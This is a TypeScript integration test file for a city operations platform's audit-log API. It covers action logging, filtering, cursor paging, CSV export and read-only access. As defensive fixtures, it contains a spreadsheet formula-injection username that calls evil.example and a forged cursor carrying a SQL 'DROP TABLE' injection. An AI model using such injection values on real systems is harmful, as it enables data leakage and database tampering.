import {
  AUDIT_CSV_HEADER,
  type AuditEntry,
  AuditEntrySchema,
  type AuditPage,
  AuditPageSchema,
  type EscalationPolicy,
  type MaintenanceItem,
  type MaintenanceList,
  type Silence,
  type StoredRule,
  type WatchMode,
  parseCsv,
} from '@cityops/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signToken } from '../../src/modules/auth/access-token.js';
import { ApiClient } from './support/api-client.js';
import { ASSET_HEADER, PipelineHarness, TEST_SECRET } from './support/pipeline-harness.js';
import { DATABASE_KINDS } from './support/test-env.js';

const ASSETS = `
IS-0001,heating,indoor_sensor,南京路 3 号楼 501,120101,117.197,39.119,
ST-0001,heating,heat_station,南京路换热站,120101,117.196,39.118,
WL-0001,waterlogging,underpass,解放桥下穿,120101,117.205,39.13,
`;

const MIN = 60_000;
const T0 = Date.now() - 6 * 60 * MIN;
const indoor = (minutes: number, indoorTempC: number) => ({
  sensorId: 'IS-0001',
  ts: T0 + minutes * MIN,
  metrics: { indoorTempC },
});
const iso = (ms: number) => new Date(ms).toISOString();

/** A username typed at the sign-in form that a spreadsheet would run as a formula. */
const FORMULA_USERNAME = '=HYPERLINK("http://evil.example/?"&A1,"click")';
/** Requests come from the test process over loopback IPv4. */
const LOOPBACK = '127.0.0.1';

describe.each(DATABASE_KINDS)('audit trail - /api/audit (%s)', (databaseKind) => {
  let h: PipelineHarness;
  let supervisor: ApiClient;

  const page = async (query: string, client = supervisor) => {
    const { status, body } = await client.get<AuditPage>(`/api/audit?${query}`);
    expect(status, JSON.stringify(body)).toBe(200);
    return AuditPageSchema.parse(body);
  };
  const trail = async (query: string) => (await page(`limit=500&${query}`)).items;
  /** The one entry of this action on this target (through the API's own filters). */
  const only = async (action: string, target: string | null): Promise<AuditEntry> => {
    const query = new URLSearchParams({ action, ...(target !== null && { target }) });
    const items = (await trail(query.toString())).filter((e) => target !== null || !e.target);
    expect(items.map((e) => e.action)).toEqual([action]);
    return items[0]!;
  };
  const put = (client: ApiClient, path: string, body: unknown) => client.request('PUT', path, body);
  const del = (client: ApiClient, path: string) => client.request('DELETE', path);
  const count = async () =>
    Number((await h.db.query<{ n: number }>('SELECT count(*)::int AS n FROM audit_log'))[0]!.n);

  beforeAll(async () => {
    h = await PipelineHarness.start(databaseKind, ASSETS);
    supervisor = h.as('supervisor', 'zhang.wei');
  });

  afterAll(async () => {
    await h?.stop();
  });

  describe('records every state-changing action with who, what, when and from where', () => {
    it('sign-in and failed sign-in', async () => {
      const client = ApiClient.of(h.app);
      const before = Date.now();
      await client.login('admin', 'test-admin-password');
      const refused = await client.post('/api/auth/login', {
        username: FORMULA_USERNAME,
        password: 'not-the-password',
      });
      expect(refused.status).toBe(401);

      const logins = await trail('action=auth.login&actor=admin');
      // The harness signed in too; the newest is ours.
      expect(logins.length).toBeGreaterThanOrEqual(2);
      expect(logins[0]).toMatchObject({ actor: 'admin', target: null, ip: LOOPBACK });
      expect(logins[0]!.data).toHaveProperty('session');
      expect(Date.parse(logins[0]!.at)).toBeGreaterThanOrEqual(before - 1000);
      expect(Date.parse(logins[0]!.at)).toBeLessThanOrEqual(Date.now() + 1000);

      const failed = await only('auth.login_failed', null);
      expect(failed).toMatchObject({
        actor: FORMULA_USERNAME,
        ip: LOOPBACK,
        data: { reason: 'unknown_user' },
      });
      // Nothing of the password is kept.
      expect(JSON.stringify(failed)).not.toContain('not-the-password');
    });

    // Logout, user management (create, change, disable, reset) and display/API token management
    // (create, revoke) belong here once their modules land: sign out, change a user and a token
    // through the API, then assert auth.logout, user.* and token.* entries with actor, target, ip
    // and the changed fields in `data` as the tests below do.

    it('asset import', async () => {
      const csv = `${ASSET_HEADER}\nWL-0002,waterlogging,low_road,河东低洼路段,120102,117.227,39.122,\n`;
      expect((await h.api.post('/api/assets/import', csv, 'text/csv')).status).toBe(200);
      const [newest] = await trail('action=assets.imported');
      expect(newest).toMatchObject({
        actor: 'admin',
        target: null,
        ip: LOOPBACK,
        data: { imported: 1, rejected: 0 },
      });
    });

    it('incident acknowledge, assign, comment, resolve; maintenance item resolve', async () => {
      // A cold flat pages, then the sensor repeats the same value for hours: stuck (maintenance).
      await h.readings([indoor(0, 15)]);
      await h.readings(Array.from({ length: 11 }, (_, i) => indoor(20 * (i + 1), 15)));
      const incident = (await h.incidentOf('IS-0001'))!;
      expect(incident).toBeDefined();
      const operator = h.as('operator', 'desk-1');
      const path = `/api/incidents/${incident.id}`;
      expect(
        (await operator.post(`${path}/acknowledge`, { note: '已派人 on the way' })).status,
      ).toBe(200);
      expect(
        (await supervisor.post(`${path}/assign`, { assignee: 'li.na', note: '请跟进' })).status,
      ).toBe(200);
      expect((await operator.post(`${path}/comments`, { text: '住户已联系' })).status).toBe(201);
      expect((await h.api.post(`${path}/resolve`, { note: '阀门已开' })).status).toBe(200);

      expect(await only('incident.acknowledged', incident.id)).toMatchObject({
        actor: 'desk-1',
        ip: LOOPBACK,
        data: { from: 'open', to: 'acknowledged', note: '已派人 on the way' },
      });
      expect(await only('incident.assigned', incident.id)).toMatchObject({
        actor: 'zhang.wei',
        ip: LOOPBACK,
        data: { from: 'acknowledged', to: 'acknowledged', assignee: 'li.na', note: '请跟进' },
      });
      expect(await only('incident.commented', incident.id)).toMatchObject({
        actor: 'desk-1',
        ip: LOOPBACK,
        data: { text: '住户已联系' },
      });
      expect(await only('incident.resolved', incident.id)).toMatchObject({
        actor: 'admin',
        ip: LOOPBACK,
        data: { from: 'acknowledged', to: 'resolved', note: '阀门已开' },
      });
      expect((await trail(`target=${incident.id}`)).map((e) => e.action)).toEqual([
        'incident.resolved',
        'incident.commented',
        'incident.assigned',
        'incident.acknowledged',
      ]);

      const item = (
        await h.api.get<MaintenanceList>('/api/maintenance?assetId=IS-0001&status=open')
      ).body.items[0]!;
      expect(item).toBeDefined();
      const resolved = await operator.post<MaintenanceItem>(`/api/maintenance/${item.id}/resolve`, {
        note: '更换温度探头 replaced the probe',
      });
      expect(resolved.status).toBe(200);
      expect(await only('maintenance.resolved', item.id)).toMatchObject({
        actor: 'desk-1',
        ip: LOOPBACK,
        data: {
          before: { status: 'open' },
          after: {
            status: 'resolved',
            resolvedBy: 'desk-1',
            note: '更换温度探头 replaced the probe',
          },
        },
      });
    });

    it('rule create, update, disable, enable, delete, each with before and after', async () => {
      const rule = {
        id: 'station-supply-low',
        name: '供水温度低 Supply temperature low',
        domain: 'heating',
        type: 'threshold',
        metric: 'supplyTempC',
        assetKinds: ['heat_station'],
        direction: 'below',
        levels: [{ severity: 'yellow', value: 55 }],
        clear: 58,
        title: '{asset}：供水 {value} °C',
      };
      const path = `/api/rules/${rule.id}`;
      expect((await h.api.post<StoredRule>('/api/rules', rule)).status).toBe(201);
      expect((await put(h.api, path, { ...rule, clear: 60, version: 1 })).status).toBe(200);
      expect((await h.api.post(`${path}/disable`)).status).toBe(200);
      expect((await h.api.post(`${path}/enable`)).status).toBe(200);
      expect((await del(h.api, path)).status).toBe(200);

      expect(await only('rule.created', rule.id)).toMatchObject({
        actor: 'admin',
        ip: LOOPBACK,
        data: { before: null, after: { rule: { ...rule, version: 1 }, archived: false } },
      });
      expect(await only('rule.updated', rule.id)).toMatchObject({
        actor: 'admin',
        ip: LOOPBACK,
        data: {
          before: { rule: { clear: 58, version: 1 } },
          after: { rule: { clear: 60, version: 2 } },
        },
      });
      expect(await only('rule.disabled', rule.id)).toMatchObject({
        data: { before: { rule: { enabled: true } }, after: { rule: { enabled: false } } },
      });
      expect(await only('rule.enabled', rule.id)).toMatchObject({
        data: { before: { rule: { enabled: false } }, after: { rule: { enabled: true } } },
      });
      expect(await only('rule.archived', rule.id)).toMatchObject({
        actor: 'admin',
        ip: LOOPBACK,
        data: { before: { archived: false }, after: { archived: true } },
      });
    });

    it('silence create, edit and expire (its delete), each with before and after', async () => {
      const body = {
        matchers: { assetId: 'ST-0001' },
        startsAt: iso(Date.now() - MIN),
        endsAt: iso(Date.now() + 60 * MIN),
        reason: '换热站检修 planned maintenance',
      };
      const created = await supervisor.post<Silence>('/api/silences', body);
      expect(created.status).toBe(201);
      const path = `/api/silences/${created.body.id}`;
      expect((await put(supervisor, path, { ...body, reason: '延长 extended' })).status).toBe(200);
      expect((await h.as('operator', 'desk-1').post(`${path}/expire`)).status).toBe(200);

      expect(await only('silence.created', created.body.id)).toMatchObject({
        actor: 'zhang.wei',
        ip: LOOPBACK,
        data: { before: null, after: { reason: body.reason, matchers: body.matchers } },
      });
      expect(await only('silence.updated', created.body.id)).toMatchObject({
        actor: 'zhang.wei',
        ip: LOOPBACK,
        data: { before: { reason: body.reason }, after: { reason: '延长 extended' } },
      });
      expect(await only('silence.expired', created.body.id)).toMatchObject({
        actor: 'desk-1',
        ip: LOOPBACK,
        data: { before: { state: 'active' }, after: { state: 'expired' } },
      });
    });

    it('on-call teams, schedules with overrides, routes and escalation policies', async () => {
      const team = {
        id: 'duty',
        name: '值班 Duty',
        members: [
          { id: 'li', displayName: '李娜', contacts: [] },
          { id: 'wang', displayName: '王芳', contacts: [] },
        ],
      };
      const schedule = {
        id: 'duty-primary',
        teamId: 'duty',
        layers: [
          {
            name: 'days',
            rotation: {
              type: 'daily',
              handoffTime: '08:00',
              startsAt: '2026-11-02',
              members: ['li', 'wang'],
            },
          },
        ],
      };
      const override = {
        memberId: 'wang',
        from: '2026-11-03T12:00:00+08:00',
        to: '2026-11-03T14:00:00+08:00',
        reason: '换班 swap',
      };
      const route = { id: 'heating', order: 1, match: { domains: ['heating'] }, teamId: 'duty' };
      const policy = {
        id: 'heating-escalation',
        name: '供热升级 Heating escalation',
        steps: [{ afterMinutes: 0, notify: [{ kind: 'oncall' }] }],
        routeIds: ['heating'],
      };
      const { id: _teamId, ...teamBody } = team;
      const { id: _scheduleId, ...scheduleBody } = schedule;
      const { id: _routeId, ...routeBody } = route;
      const { id: _policyId, ...policyBody } = policy;
      const write = async (method: string, path: string, body?: unknown) =>
        expect((await h.api.request(method, `/api/oncall/${path}`, body)).status).toBeLessThan(300);

      await write('POST', 'teams', team);
      await write('PUT', 'teams/duty', { ...teamBody, name: '值班组 Duty team' });
      await write('POST', 'schedules', schedule);
      await write('PUT', 'schedules/duty-primary', { ...scheduleBody, overrides: [override] });
      await write('POST', 'routes', route);
      await write('PUT', 'routes/heating', { ...routeBody, order: 2 });
      const created = await h.api.post<EscalationPolicy>('/api/oncall/escalation-policies', policy);
      expect(created.status).toBe(201);
      await write('PUT', 'escalation-policies/heating-escalation', { ...policyBody, repeat: 2 });
      await write('DELETE', 'escalation-policies/heating-escalation');
      await write('DELETE', 'routes/heating');
      await write('DELETE', 'schedules/duty-primary');
      await write('DELETE', 'teams/duty');

      const expectChange = async (action: string, target: string, data: Record<string, unknown>) =>
        expect(await only(action, target)).toMatchObject({ actor: 'admin', ip: LOOPBACK, data });
      await expectChange('oncall.team.created', 'oncall-team:duty', {
        before: null,
        after: { id: 'duty', name: team.name },
      });
      await expectChange('oncall.team.updated', 'oncall-team:duty', {
        before: { name: team.name },
        after: { name: '值班组 Duty team' },
      });
      await expectChange('oncall.team.deleted', 'oncall-team:duty', {
        before: { id: 'duty' },
        after: null,
      });
      await expectChange('oncall.schedule.created', 'oncall-schedule:duty-primary', {
        before: null,
        after: { id: 'duty-primary', overrides: [] },
      });
      await expectChange('oncall.schedule.updated', 'oncall-schedule:duty-primary', {
        before: { overrides: [] },
        after: { overrides: [{ memberId: 'wang', reason: '换班 swap' }] },
      });
      await expectChange('oncall.schedule.deleted', 'oncall-schedule:duty-primary', {
        before: { id: 'duty-primary' },
        after: null,
      });
      await expectChange('oncall.route.created', 'oncall-route:heating', {
        before: null,
        after: { id: 'heating', order: 1 },
      });
      await expectChange('oncall.route.updated', 'oncall-route:heating', {
        before: { order: 1 },
        after: { order: 2 },
      });
      await expectChange('oncall.route.deleted', 'oncall-route:heating', {
        before: { id: 'heating' },
        after: null,
      });
      await expectChange('escalation.policy.created', 'escalation-policy:heating-escalation', {
        before: null,
        after: { id: 'heating-escalation', repeat: 0 },
      });
      await expectChange('escalation.policy.updated', 'escalation-policy:heating-escalation', {
        before: { repeat: 0 },
        after: { repeat: 2 },
      });
      await expectChange('escalation.policy.deleted', 'escalation-policy:heating-escalation', {
        before: { id: 'heating-escalation' },
        after: null,
      });
      // The whole on-call history of the team, through the prefix filter.
      expect((await trail('action=oncall.team.*')).map((e) => e.action)).toEqual([
        'oncall.team.deleted',
        'oncall.team.updated',
        'oncall.team.created',
      ]);
    });

    it('watch mode start and end, with the changed fields', async () => {
      const started = await supervisor.post<WatchMode>('/api/watch', {
        kind: 'rainstorm',
        scope: '120101',
        reason: '市气象台发布暴雨黄色预警',
      });
      expect(started.status).toBe(201);
      const id = started.body.id;
      expect((await h.api.post(`/api/watch/${id}/end`, { note: '雨停，解除值守' })).status).toBe(
        200,
      );
      expect(await only('watch.started', id)).toMatchObject({
        actor: 'zhang.wei',
        ip: LOOPBACK,
        data: {
          kind: 'rainstorm',
          scope: '120101',
          reason: '市气象台发布暴雨黄色预警',
          startedAt: started.body.startedAt,
          endedAt: null,
        },
      });
      const ended = await only('watch.ended', id);
      expect(ended).toMatchObject({
        actor: 'admin',
        ip: LOOPBACK,
        data: { kind: 'rainstorm', scope: '120101', note: '雨停，解除值守' },
      });
      expect(Date.parse(ended.data.endedAt as string)).toBeGreaterThanOrEqual(
        Date.parse(started.body.startedAt),
      );
    });
  });

  describe('GET /api/audit', () => {
    it('answers entries of the contract, newest first along (at, id)', async () => {
      const items = await trail('');
      expect(items.length).toBeGreaterThan(30);
      for (const item of items) AuditEntrySchema.parse(item);
      for (let i = 1; i < items.length; i++)
        expect(Date.parse(items[i - 1]!.at)).toBeGreaterThanOrEqual(Date.parse(items[i]!.at));
      expect(new Set(items.map((e) => e.id)).size).toBe(items.length);
    });

    it('filters by actor, by exact action, and by action prefix', async () => {
      const byActor = await trail('actor=desk-1');
      expect(new Set(byActor.map((e) => e.actor))).toEqual(new Set(['desk-1']));
      expect(byActor.map((e) => e.action)).toEqual(
        expect.arrayContaining([
          'incident.acknowledged',
          'maintenance.resolved',
          'silence.expired',
        ]),
      );

      // Exact: auth.login does not take auth.login_failed with it.
      const logins = await trail('action=auth.login');
      expect(logins.length).toBeGreaterThan(0);
      expect(logins.every((e) => e.action === 'auth.login')).toBe(true);

      const incidentActions = await trail('action=incident.*');
      expect(new Set(incidentActions.map((e) => e.action))).toEqual(
        new Set([
          'incident.acknowledged',
          'incident.assigned',
          'incident.commented',
          'incident.resolved',
        ]),
      );
      const auth = await trail('action=auth.*');
      expect(new Set(auth.map((e) => e.action))).toEqual(
        new Set(['auth.login', 'auth.login_failed']),
      );
      // A prefix ends at a dot: auth.login.* is neither auth.login nor auth.login_failed.
      expect(await trail('action=auth.login.*')).toEqual([]);
      expect(await trail('action=incident.*&actor=zhang.wei')).toEqual([
        expect.objectContaining({ action: 'incident.assigned', actor: 'zhang.wei' }),
      ]);
      expect(await trail('actor=nobody')).toEqual([]);
    });

    it('filters by a time range [from, to), with any offset', async () => {
      const all = await trail('');
      const newer = all[5]!;
      const older = all[25]!;
      expect(Date.parse(newer.at)).toBeGreaterThan(Date.parse(older.at));
      const from = older.at;
      const to = new Date(Date.parse(newer.at) + 8 * 3_600_000)
        .toISOString()
        .replace('Z', '+08:00');
      const expected = all.filter(
        (e) => Date.parse(e.at) >= Date.parse(from) && Date.parse(e.at) < Date.parse(newer.at),
      );
      const got = await trail(new URLSearchParams({ from, to }).toString());
      expect(got.map((e) => e.id)).toEqual(expected.map((e) => e.id));
      expect(got.map((e) => e.id)).toContain(older.id);
      expect(got.map((e) => e.id)).not.toContain(newer.id);
      expect(got.length).toBeGreaterThan(5);
      // Only before, only after.
      expect((await trail(`to=${encodeURIComponent(all.at(-1)!.at)}`)).length).toBe(0);
      const future = iso(Date.now() + 3_600_000);
      expect(await trail(`from=${encodeURIComponent(future)}`)).toEqual([]);
    });

    it('pages without duplicates or gaps, also through entries of the same instant', async () => {
      // 25 entries within a few microseconds, several sharing one instant: the cursor must keep
      // the microseconds (a JavaScript Date would not) and break ties by id.
      await h.db.query(
        `INSERT INTO audit_log (at, actor, action, target, data)
         SELECT now() - interval '1 hour' + (g / 3) * interval '1 microsecond', 'system', 'test.bulk', 'bulk-' || g, '{}'
         FROM generate_series(1, 25) AS g`,
      );
      const walk = async (query: string, limit: number) => {
        const pages: AuditEntry[][] = [];
        let cursor: string | null = null;
        do {
          const result: AuditPage = await page(
            `${query}&limit=${limit}${cursor ? `&cursor=${cursor}` : ''}`,
          );
          pages.push(result.items);
          cursor = result.next;
          expect(pages.length).toBeLessThan(100);
        } while (cursor);
        return pages;
      };

      const bulk = await walk('action=test.bulk', 10);
      expect(bulk.map((p) => p.length)).toEqual([10, 10, 5]);
      const bulkIds = bulk.flat().map((e) => e.target);
      expect(new Set(bulkIds).size).toBe(25);
      expect(bulkIds).toEqual(Array.from({ length: 25 }, (_, i) => `bulk-${25 - i}`));

      const everything = (await trail('')).map((e) => e.id);
      const limit = Math.ceil(everything.length / 3);
      const pages = await walk('', limit);
      expect(pages.length).toBeGreaterThanOrEqual(3);
      expect(pages.flat().map((e) => e.id)).toEqual(everything);

      // The last page says so; a page after an exact fit is empty, not an error.
      const exact = await page('action=test.bulk&limit=25');
      expect(exact.next).toBeNull();
      expect(exact.items).toHaveLength(25);
    });

    it('refuses a malformed query or a cursor it did not issue, listing each problem', async () => {
      const bad = await supervisor.get<{ details: string[] }>(
        '/api/audit?action=incident*&limit=0&from=yesterday&sort=asc',
      );
      expect(bad.status).toBe(400);
      expect(bad.body.details).toEqual(
        expect.arrayContaining([
          expect.stringContaining('action: action is an action name'),
          'limit: limit is a number from 1 to 500',
          expect.stringContaining('from: from is an ISO 8601 time'),
          expect.stringContaining('sort'),
        ]),
      );
      const forged = Buffer.from(
        JSON.stringify(['2026-11-26T00:00:00Z', '1; DROP TABLE x']),
      ).toString('base64url');
      const cursorOf = (at: string, id: string) =>
        Buffer.from(JSON.stringify([at, id])).toString('base64url');
      for (const cursor of [
        forged,
        'bm90LWpzb24',
        'AAAA',
        cursorOf('2026-11-26T00:00:00.000000Z', '99999999999999999999'),
        cursorOf('March 7, 2026', '1'),
        cursorOf('2026-11-26T08:00:00+08:00', '1'),
      ])
        expect((await supervisor.get(`/api/audit?cursor=${cursor}`)).status).toBe(400);
      const inverted = await supervisor.get<{ details: string[] }>(
        '/api/audit?from=2026-11-27T00:00:00Z&to=2026-11-26T00:00:00Z',
      );
      expect(inverted.status).toBe(400);
      expect(inverted.body.details).toEqual(['from: from must be before to']);
    });
  });

  describe('GET /api/audit/export.csv', () => {
    const download = async (query: string, client = supervisor) => {
      const response = await fetch(`${client.baseUrl}/api/audit/export.csv?${query}`, {
        headers: { authorization: `Bearer ${client.token}` },
      });
      return { response, bytes: Buffer.from(await response.arrayBuffer()) };
    };

    it('writes the filtered entries as UTF-8 CSV with a BOM, a header, and formulas defused', async () => {
      const { response, bytes } = await download('action=auth.*');
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(response.headers.get('content-disposition')).toMatch(
        /^attachment; filename="audit-\d{8}-\d{4}\.csv"$/,
      );
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = bytes.subarray(3).toString('utf8');
      const lines = text.split('\r\n');
      expect(lines[0]).toBe('id,at,actor,action,target,ip,data');
      expect(lines.at(-1)).toBe('');
      const listed = await trail('action=auth.*');
      expect(lines.length - 2).toBe(listed.length);
      expect(response.headers.get('x-export-total')).toBe(String(listed.length));
      expect(response.headers.get('x-export-rows')).toBe(String(listed.length));
      expect(response.headers.get('x-export-truncated')).toBe('false');

      const failed = lines.find((l) => l.includes('auth.login_failed'))!;
      // The typed username is kept, but starts with an apostrophe: no spreadsheet runs it.
      expect(failed).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
      expect(lines.some((l) => /(^|,)"?=/.test(l))).toBe(false);
      // Read back as a spreadsheet would, field by field.
      const rows = parseCsv(text).map((r) => r.fields);
      expect(rows[0]).toEqual([...AUDIT_CSV_HEADER]);
      expect(rows.slice(1).map((r) => r[0])).toEqual(listed.map((e) => e.id));
      const entry = listed.find((e) => e.action === 'auth.login_failed')!;
      const row = rows.find((r) => r[0] === entry.id)!;
      expect(row).toEqual([
        entry.id,
        // The city's wall clock (Asia/Shanghai, UTC+8), to the second.
        new Date(Date.parse(entry.at) + 8 * 3_600_000).toISOString().slice(0, 19).replace('T', ' '),
        `'${FORMULA_USERNAME}`,
        'auth.login_failed',
        '',
        LOOPBACK,
        JSON.stringify(entry.data),
      ]);
      const login = rows.find((r) => r[3] === 'auth.login')!;
      expect(JSON.parse(login[6]!)).toEqual({ session: expect.any(String) });
    });

    it('cuts the file at the row cap and says so in its headers', async () => {
      const { response, bytes } = await download('action=test.bulk&limit=7');
      expect(response.status).toBe(200);
      expect(response.headers.get('x-export-total')).toBe('25');
      expect(response.headers.get('x-export-rows')).toBe('7');
      expect(response.headers.get('x-export-truncated')).toBe('true');
      const lines = bytes.subarray(3).toString('utf8').split('\r\n').filter(Boolean);
      expect(lines.slice(1).map((l) => l.split(',')[4])).toEqual(
        Array.from({ length: 7 }, (_, i) => `bulk-${25 - i}`),
      );
      const bad = await download('limit=50001&cursor=x');
      expect(bad.response.status).toBe(400);
    });
  });

  describe('who may read it; nobody may change it', () => {
    it('lets admins and supervisors read and export; operators and display screens get 403', async () => {
      for (const client of [h.api, supervisor]) {
        expect((await client.get('/api/audit?limit=1')).status).toBe(200);
        expect((await client.get('/api/audit/export.csv?limit=1')).status).toBe(200);
      }
      for (const role of ['operator', 'display'] as const) {
        const client = h.as(role);
        expect((await client.get('/api/audit')).status).toBe(403);
        expect((await client.get('/api/audit/export.csv')).status).toBe(403);
      }
      const anonymous = ApiClient.of(h.app);
      expect((await anonymous.get('/api/audit')).status).toBe(401);
      expect((await anonymous.get('/api/audit/export.csv')).status).toBe(401);
    });

    it('refuses a supervisor limited to districts: the trail is city-wide', async () => {
      const limited = ApiClient.of(h.app);
      const now = Math.floor(Date.now() / 1000);
      limited.token = signToken(
        {
          sid: 'test-session',
          sub: 'heping.sup',
          role: 'supervisor',
          dst: ['120101'],
          iat: now,
          exp: now + 3600,
        },
        TEST_SECRET,
      );
      expect((await limited.get('/api/audit')).status).toBe(403);
      expect((await limited.get('/api/audit/export.csv')).status).toBe(403);
    });

    it('has no route that edits or deletes an entry', async () => {
      const before = await count();
      const newest = (await page('limit=1')).items[0]!;
      for (const client of [h.api, supervisor]) {
        for (const method of ['PUT', 'PATCH', 'DELETE', 'POST']) {
          for (const path of ['/api/audit', `/api/audit/${newest.id}`, '/api/audit/export.csv']) {
            const { status } = await client.request(method, path, { actor: 'someone-else' });
            expect(status, `${method} ${path}`).toBe(404);
          }
        }
      }
      expect(await count()).toBe(before);
      expect((await page('limit=1')).items[0]).toEqual(newest);
      expect((await supervisor.get(`/api/audit/${newest.id}`)).status).toBe(404);
    });
  });
});
